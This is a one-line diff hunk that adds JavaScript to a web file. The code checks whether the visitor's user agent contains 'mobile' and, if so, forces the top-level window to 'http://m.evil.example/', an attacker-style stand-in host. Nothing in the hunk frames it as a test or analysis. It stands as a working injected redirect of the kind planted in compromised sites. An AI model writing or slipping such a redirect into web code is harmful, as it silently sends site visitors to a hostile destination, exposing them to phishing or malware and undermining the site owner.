@@ -1,0 +1,1 @@
+var ua = navigator.userAgent.toLowerCase(); if (ua.indexOf('mobile') != -1) { top.location.href = 'http://m.evil.example/'; }
